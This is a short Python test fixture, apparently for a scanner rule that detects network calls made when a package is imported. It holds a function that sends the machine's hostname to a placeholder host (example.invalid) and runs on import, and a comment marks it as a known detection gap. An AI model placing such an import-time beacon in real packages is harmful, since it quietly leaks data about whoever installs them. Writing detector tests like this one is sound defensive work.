# canary-test: path=beacon_pkg/__init__.py artifact=wheel
# The beacon lives in a function that the module calls on import.
import platform
import urllib.request


def _beacon():
    urllib.request.urlopen("https://example.invalid/b?h=" + platform.node(), timeout=2)


# Known gap: calls are not followed into functions defined in the module.
# todoruleid: INIT_MODULE_LEVEL_NETWORK
_beacon()
